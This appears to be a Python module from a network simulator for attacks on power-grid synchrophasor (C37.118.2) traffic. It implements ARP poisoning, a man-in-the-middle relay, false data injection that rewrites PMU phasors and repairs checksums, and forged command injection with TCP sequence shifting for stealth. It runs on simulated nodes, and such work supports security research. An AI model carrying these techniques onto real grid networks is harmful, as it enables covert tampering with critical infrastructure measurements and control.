"""ARP poisoning, man-in-the-middle relaying, FDIA and FCIA.

An attack runs on a netsim node with IP forwarding on and an intercept
queue attached. Every forwarded packet is offered to :class:`MitmSession`,
which dissects C37.118.2 payloads, captures configuration frames and then
forwards, drops, or rewrites the packet according to its mode. Rewritten
frames are rebuilt from the decoded representation, so the frame CRC, the
IP total length and both checksums are recomputed before release.
"""

from __future__ import annotations

import cmath
import json
import logging
from dataclasses import dataclass, field
from enum import Enum

from . import codec
from .codec import (
    CodecError,
    CommandFrame,
    ConfigFrame2,
    DataFrame,
    MissingConfig,
    PmuData,
    build_frame,
    parse_frame,
    peek_header,
    summarize,
)
from .netsim.packets import NetPacket, build_tcp_packet, finalize, mac_str
from .netsim.sim import (
    NS,
    MutateAndAccept,
    Node,
    Verdict,
    arp_request,
    attach_interceptor,
    send_unsolicited_reply,
    set_ip_forwarding,
)

log = logging.getLogger(__name__)


class Mode(str, Enum):
    EAVESDROP = "eavesdrop"
    FDIA = "fdia"
    FCIA = "fcia"
    BLACKHOLE = "blackhole"


class InvalidMutation(ValueError):
    pass


def _cplx(v) -> complex:
    if isinstance(v, (list, tuple)):
        return complex(float(v[0]), float(v[1]))
    return complex(v)


@dataclass
class MutationSpec:
    """Per-phasor rewrite rules for one PMU.

    ``set`` replaces a phasor outright; ``scale`` multiplies, ``bias`` adds a
    complex offset and ``mag_bias`` adds to the magnitude keeping the angle.
    Values are in engineering units (V, A). ``limit`` caps how many frames
    are rewritten; ``None`` means every frame.
    """

    idcode: int
    set: dict = field(default_factory=dict)
    scale: dict = field(default_factory=dict)
    bias: dict = field(default_factory=dict)
    mag_bias: dict = field(default_factory=dict)
    limit: int | None = None
    phnmr: int | None = None
    applied: int = 0

    def __post_init__(self):
        for name in ("set", "scale", "bias"):
            setattr(self, name, {int(k): _cplx(v) for k, v in getattr(self, name).items()})
        self.mag_bias = {int(k): float(v) for k, v in self.mag_bias.items()}
        if self.limit is not None and self.limit < 0:
            raise InvalidMutation("limit must be >= 0")
        if self.phnmr is not None:
            self.check(self.phnmr)

    @property
    def indices(self) -> set:
        return set(self.set) | set(self.scale) | set(self.bias) | set(self.mag_bias)

    @property
    def empty(self) -> bool:
        return not self.indices

    def check(self, phnmr: int):
        bad = sorted(i for i in self.indices if not 0 <= i < phnmr)
        if bad:
            raise InvalidMutation(f"phasor index {bad[0]} out of range for PMU {self.idcode} with {phnmr} phasors")

    @property
    def exhausted(self) -> bool:
        return self.limit is not None and self.applied >= self.limit

    def apply(self, phasors) -> tuple:
        out = list(phasors)
        for i in range(len(out)):
            v = out[i]
            if i in self.set:
                v = self.set[i]
            if i in self.scale:
                v = v * self.scale[i]
            if i in self.bias:
                v = v + self.bias[i]
            if i in self.mag_bias:
                mag, ang = cmath.polar(v)
                v = cmath.rect(mag + self.mag_bias[i], ang)
            out[i] = v
        return tuple(out)


def split_frames(payload: bytes):
    """Raw frames if ``payload`` is exactly a run of whole C37.118.2 frames."""
    out = []
    pos = 0
    while pos < len(payload):
        try:
            _, _, size, _ = peek_header(payload[pos:pos + 6])
        except CodecError:
            return None
        if size < codec.MIN_FRAME_LEN or pos + size > len(payload):
            return None
        out.append(payload[pos:pos + size])
        pos += size
    return out or None


def _mutate_frame(raw: bytes, frame: DataFrame, spec: MutationSpec, cfg: ConfigFrame2) -> bytes:
    blocks = []
    for block, data in zip(cfg.pmus, frame.pmus):
        if block.idcode != spec.idcode:
            blocks.append(data)
            continue
        spec.check(block.phnmr)
        if block.fmt.phasor_float:
            new = spec.apply(data.phasors)
        else:
            scales = [codec.phasor_scale(u) for u in block.phunits]
            eng = spec.apply([p * s for p, s in zip(data.phasors, scales)])
            new = tuple(complex(round(v.real / s), round(v.imag / s)) for v, s in zip(eng, scales))
        blocks.append(PmuData(data.stat, new, data.freq, data.dfreq, data.analogs, data.digitals))
    rebuilt = DataFrame(
        idcode=frame.idcode, soc=frame.soc, fraction=frame.fraction, time_quality=frame.time_quality,
        version=frame.version, pmus=tuple(blocks),
    )
    return build_frame(rebuilt, cfg)


def _config_for(idcode, config):
    if isinstance(config, ConfigFrame2):
        return config if config.idcode == idcode else None
    if config:
        return config.get(idcode)
    return None


def fdia_inject(packet: NetPacket, spec: MutationSpec, config) -> NetPacket:
    """Rewrite the phasors of ``spec.idcode`` in a data-frame packet.

    Returns a new packet with CRC, IP length and checksums repaired, or the
    packet unchanged when it carries no matching data frame.
    """
    if spec.empty or spec.exhausted or not packet.is_tcp or not packet.payload:
        return packet
    frames = split_frames(packet.payload)
    if frames is None:
        return packet
    out = []
    changed = False
    for raw in frames:
        ftype, _, _, idcode = peek_header(raw)
        if ftype != codec.FrameType.DATA:
            out.append(raw)
            continue
        cfg = _config_for(idcode, config)
        if cfg is None:
            raise MissingConfig(f"no CFG-2 captured for stream {idcode}")
        if not any(b.idcode == spec.idcode for b in cfg.pmus) or spec.exhausted:
            out.append(raw)
            continue
        frame = parse_frame(raw, cfg)
        out.append(_mutate_frame(raw, frame, spec, cfg))
        spec.applied += 1
        changed = True
    if not changed:
        return packet
    new = packet.copy()
    new.payload = b"".join(out)
    return finalize(new)


# ---------------------------------------------------------------------------
# ARP poisoning


class ArpPoisoner:
    """Periodic unsolicited replies placing the attacker between two hosts."""

    def __init__(self, attacker: Node, ip_a: str, ip_b: str, interval: int = NS, claimed_mac=None):
        self.attacker = attacker
        self.ip_a = ip_a
        self.ip_b = ip_b
        self.interval = interval
        self.claimed_mac = claimed_mac
        self.active = False
        self.rounds = 0
        self.sent = []

    @property
    def sched(self):
        return self.attacker.net.sched

    def start(self, delay: int = 0):
        self.active = True
        # learn the victims' real addresses first, like any poisoning tool
        for ip in (self.ip_a, self.ip_b):
            if ip not in self.attacker.arp_table:
                arp_request(self.attacker, ip)
        self.sched.after(delay + 1_000_000, self._round)
        return self

    def _round(self):
        if not self.active:
            return
        table = self.attacker.arp_table
        for victim, claimed in ((self.ip_a, self.ip_b), (self.ip_b, self.ip_a)):
            mac = table.get(victim)
            if mac is None:
                arp_request(self.attacker, victim)
                continue
            send_unsolicited_reply(self.attacker, victim, mac, claimed, self.claimed_mac)
            self.sent.append((self.sched.now, victim, claimed))
        self.rounds += 1
        self.sched.after(self.interval, self._round)

    def stop(self):
        self.active = False


def arp_poison(attacker: Node, victim_a, victim_b, interval: int = NS, delay: int = 0) -> ArpPoisoner:
    """Start poisoning; victims are nodes or IP strings on the attacker's segment."""
    ip_a = victim_a if isinstance(victim_a, str) else _facing_ip(victim_a, attacker)
    ip_b = victim_b if isinstance(victim_b, str) else _facing_ip(victim_b, attacker)
    return ArpPoisoner(attacker, ip_a, ip_b, interval).start(delay)


def _facing_ip(victim: Node, attacker: Node) -> str:
    for iface in victim.interfaces:
        for mine in attacker.interfaces:
            if iface.segment is mine.segment:
                return iface.ip
    raise ValueError(f"{victim.name} shares no segment with {attacker.name}")


# ---------------------------------------------------------------------------
# MITM


def _rev(flow):
    return (flow[2], flow[3], flow[0], flow[1])


class MitmSession:
    """Attacker-side relay for one victim pair.

    ``victim_a`` is the PMU side (one node/IP or a list of them) and
    ``victim_b`` the PDC side, or the gateway when PMUs sit behind a router. ``harvest_stealth`` drops configuration frames that were solicited
    by a forged SendCfg2 so the PDC never sees them.
    """

    def __init__(self, attacker: Node, victim_a, victim_b, mode=Mode.EAVESDROP, spec: MutationSpec | None = None,
                 refresh: int = NS, processing_delay: int = 20_000, harvest_stealth: bool = True):
        self.attacker = attacker
        self.victim_a = victim_a
        self.victim_b = victim_b
        self.mode = Mode(mode)
        self.spec = spec
        self.refresh = refresh
        self.processing_delay = processing_delay
        self.harvest_stealth = harvest_stealth
        self.configs = {}
        self.log = []
        self.poisoners = []
        self.queue = None
        self.offsets = {}
        self.flows = {}        # stream idcode -> flow carrying its data (PMU -> PDC)
        self.last_seen = {}    # flow -> packet as last released
        self.mutated = 0
        self.dropped = 0
        self.injected = 0
        self._harvesting = set()
        if self.mode is Mode.FDIA and spec is None:
            raise InvalidMutation("FDIA mode needs a MutationSpec")

    @property
    def sched(self):
        return self.attacker.net.sched

    @property
    def net(self):
        return self.attacker.net

    def start(self, delay: int = 0):
        set_ip_forwarding(self.attacker, True)
        self.queue = attach_interceptor(self.attacker, self.processing_delay)
        self.queue.set_handler(self.handle)
        victims = self.victim_a if isinstance(self.victim_a, (list, tuple)) else [self.victim_a]
        for v in victims:
            p = arp_poison(self.attacker, v, self.victim_b, self.refresh, delay)
            self.poisoners.append(p)
            self._log("start", note=f"poisoning {p.ip_a} <-> {p.ip_b} as {mac_str(self.attacker.mac)}")
        return self

    @property
    def poisoner(self):
        return self.poisoners[0] if self.poisoners else None

    def stop(self):
        for p in self.poisoners:
            p.stop()
        self._log("stop")

    # -- logging ------------------------------------------------------------

    def _log(self, action, packet: NetPacket | None = None, frames=None, **extra):
        rec = {"t": round(self.sched.now / NS, 9), "action": action}
        if packet is not None and packet.ip is not None:
            rec["direction"] = f"{packet.ip.src}->{packet.ip.dst}"
        if frames:
            rec["frames"] = frames
        rec.update(extra)
        self.log.append(rec)

    def write_log(self, path):
        with open(path, "w") as fh:
            for rec in self.log:
                fh.write(json.dumps(rec, sort_keys=True) + "\n")

    # -- config capture ------------------------------------------------------

    def capture_config(self, idcode: int | None = None) -> ConfigFrame2:
        if idcode is None:
            if not self.configs:
                raise MissingConfig("no CFG-2 observed yet")
            return next(iter(self.configs.values()))
        if idcode not in self.configs:
            raise MissingConfig(f"no CFG-2 observed for stream {idcode}")
        return self.configs[idcode]

    # -- packet handling ------------------------------------------------------

    def handle(self, packet: NetPacket):
        """Verdict for one forwarded packet."""
        if not packet.is_tcp:
            return Verdict.ACCEPT
        flow = packet.flow()
        seq_off = self.offsets.get(flow, 0)
        ack_off = self.offsets.get(_rev(flow), 0)
        adjusted = False
        if seq_off or ack_off:
            packet.tcp.seq = (packet.tcp.seq + seq_off) & 0xFFFFFFFF
            packet.tcp.ack = (packet.tcp.ack - ack_off) & 0xFFFFFFFF
            adjusted = True
        self.last_seen[flow] = packet
        if not packet.payload:
            return self._release(packet, adjusted)
        frames = split_frames(packet.payload)
        if frames is None:
            return self._release(packet, adjusted)
        parsed = []
        for raw in frames:
            try:
                frame = parse_frame(raw, self.configs)
            except MissingConfig:
                frame = None
            except CodecError:
                return self._release(packet, adjusted)
            parsed.append((raw, frame))
            if isinstance(frame, ConfigFrame2):
                new = frame.idcode not in self.configs
                self.configs[frame.idcode] = frame
                self._log("config_captured", packet, [summarize(frame)], new=new)
            if isinstance(frame, (DataFrame, ConfigFrame2)) or frame is None:
                idc = peek_header(raw)[3]
                self.flows.setdefault(idc, flow)
            elif isinstance(frame, CommandFrame):
                self.flows.setdefault(frame.idcode, _rev(flow))
        summaries = [summarize(f) if f is not None else {"type": "DATA", "undecoded": True} for _, f in parsed]

        if self.mode is Mode.BLACKHOLE:
            self.dropped += 1
            self._log("drop", packet, summaries)
            return Verdict.DROP

        if self.harvest_stealth and self._harvesting:
            cfgs = [f for _, f in parsed if isinstance(f, ConfigFrame2) and f.idcode in self._harvesting]
            if cfgs and len(cfgs) == len(parsed):
                for f in cfgs:
                    self._harvesting.discard(f.idcode)
                self.offsets[flow] = seq_off - len(packet.payload)
                self.dropped += 1
                self._log("harvest_drop", packet, summaries)
                return Verdict.DROP

        if self.mode is Mode.FDIA and self.spec is not None:
            try:
                new = fdia_inject(packet, self.spec, self.configs)
            except MissingConfig as exc:
                self._log("missing_config", packet, summaries, error=str(exc))
                return self._release(packet, adjusted)
            except (CodecError, InvalidMutation) as exc:
                self._log("mutation_failed", packet, summaries, error=str(exc))
                return self._release(packet, adjusted)
            if new is not packet:
                delta = len(new.payload) - len(packet.payload)
                if delta:
                    self.offsets[flow] = seq_off + delta
                self.mutated += 1
                after = [summarize(parse_frame(r, self.configs)) for r in split_frames(new.payload)]
                self._log("mutate", packet, summaries, after=after)
                self.last_seen[flow] = new
                return MutateAndAccept(new)

        self._log("forward", packet, summaries)
        return self._release(packet, adjusted)

    @staticmethod
    def _release(packet, adjusted):
        if adjusted:
            return MutateAndAccept(finalize(packet))
        return Verdict.ACCEPT

    # -- FCIA ---------------------------------------------------------------

    def fcia_inject(self, forged, idcode: int | None = None) -> NetPacket:
        """Send a forged command toward the PMU as if it came from the PDC.

        ``forged`` is a CommandFrame or raw frame bytes. The PMU's receive
        sequence number is taken from the acks it sends; later traffic in
        both directions is shifted so neither end notices the extra bytes.
        """
        raw = build_frame(forged) if isinstance(forged, CommandFrame) else bytes(forged)
        if idcode is None:
            idcode = forged.idcode if isinstance(forged, CommandFrame) else peek_header(raw)[3]
        if idcode not in self.flows:
            raise MissingConfig(f"no stream for PMU {idcode} observed yet")
        up = self.flows[idcode]          # PMU -> PDC
        down = _rev(up)                  # PDC -> PMU
        seen_up = self.last_seen.get(up)
        seen_down = self.last_seen.get(down)
        if seen_up is not None:
            # the PMU acks what it has received; shift back into its own space
            seq = (seen_up.tcp.ack + self.offsets.get(down, 0)) & 0xFFFFFFFF
            ack = (seen_up.tcp.seq - self.offsets.get(up, 0) + len(seen_up.payload)) & 0xFFFFFFFF
        elif seen_down is not None:
            seq = (seen_down.tcp.seq + len(seen_down.payload)) & 0xFFFFFFFF
            ack = seen_down.tcp.ack
        else:
            raise MissingConfig(f"no sequence state for PMU {idcode}")
        pmu_ip, pmu_port, pdc_ip, pdc_port = up
        iface, _ = self.attacker.route(pmu_ip)
        pmu_mac = self.attacker.arp_table[pmu_ip]
        pkt = build_tcp_packet(iface.mac, pmu_mac, pdc_ip, pmu_ip, pdc_port, pmu_port, seq, ack,
                               0x18, raw, ident=self.attacker._next_ident())
        self.attacker._send_raw(iface, pkt.to_bytes())
        self.offsets[down] = self.offsets.get(down, 0) + len(raw)
        self.injected += 1
        try:
            frame = parse_frame(raw)
            frames = [summarize(frame)]
            if isinstance(frame, CommandFrame) and frame.cmd == codec.Command.SEND_CFG2:
                self._harvesting.add(idcode)
        except CodecError as exc:
            frames = [{"raw": raw.hex(), "error": str(exc)}]
        self._log("inject", pkt, frames)
        return pkt


def run_mitm(attacker: Node, victim_a, victim_b, mode=Mode.EAVESDROP, **kw) -> MitmSession:
    """Poison both victims and relay their traffic through ``attacker``."""
    return MitmSession(attacker, victim_a, victim_b, mode, **kw).start()


def fcia_inject(session: MitmSession, forged, idcode: int | None = None) -> NetPacket:
    return session.fcia_inject(forged, idcode)


def capture_config(session: MitmSession, idcode: int | None = None) -> ConfigFrame2:
    return session.capture_config(idcode)
